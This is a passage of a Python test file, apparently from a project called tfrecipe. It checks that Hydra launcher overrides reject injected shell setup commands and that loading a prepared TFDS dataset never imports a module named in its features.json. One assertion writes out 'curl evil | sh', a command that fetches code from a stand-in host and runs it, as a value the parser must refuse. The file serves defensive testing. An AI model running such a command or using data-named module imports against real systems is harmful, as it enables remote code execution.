            "+hydra.launcher.additional_parameters={mail-type:END}",
            "hydra.launcher.setup=['module load cuda']",
            "model=glob(*)",
            "dataset.data_dir=/data/my images (2)",  # OmegaConf's dotlist takes it, Hydra not
        ]
    )
    assert typed.granted_prefixes() == {"mine.models", "mine.data", "other"}
    assert typed.gave("hydra.launcher.additional_parameters.mail-type", "END")
    assert not typed.gave("hydra.launcher.additional_parameters.mail-user", "END")
    assert typed.gave("hydra.launcher.setup", ["module load cuda"])
    assert not typed.gave("hydra.launcher.setup", ["module load cuda", "curl evil | sh"])


@pytest.mark.parametrize(
    "features",
    [
        {"pythonClassName": "tfrecipe_probe_feature.Feature", "jsonFeature": {"json": "{}"}},
        {"type": "tfrecipe_probe_feature.Feature", "content": {}},  # TFDS' older layout
    ],
)
def test_a_prepared_tfds_folder_names_no_module_to_import(tmp_path, monkeypatch, features):
    """The probe: TFDS reads a prepared dataset it has no code for from its features.json and
    imports the module of each feature class named there (FeatureConnector.cls_from_name): a
    recipe's `dataset=tfds dataset.name=mydata dataset.data_dir=data` beside a `.py` file on
    the path (the current folder, under `python -m`) ran that file."""
    from tfrecipe.data.tfds import load

    version = tmp_path / "data" / "mydata" / "1.0.0"
    version.mkdir(parents=True)
    split = {"name": "train", "numBytes": "10", "shardLengths": ["1"]}
    info = {"name": "mydata", "version": "1.0.0", "splits": [split], "fileFormat": "tfrecord"}
    (version / "dataset_info.json").write_text(json.dumps(info))
    (version / "features.json").write_text(json.dumps(features))
    (tmp_path / "tfrecipe_probe_feature.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    monkeypatch.syspath_prepend(str(tmp_path))

    with pytest.raises(ValueError) as refused:
        load(name="mydata", data_dir=str(tmp_path / "data"))
    assert "'tfrecipe_probe_feature.Feature'" in str(refused.value), refused.value
    assert "features.json" in str(refused.value)
    assert not (tmp_path / "ran").exists(), "the module named by the data was imported"
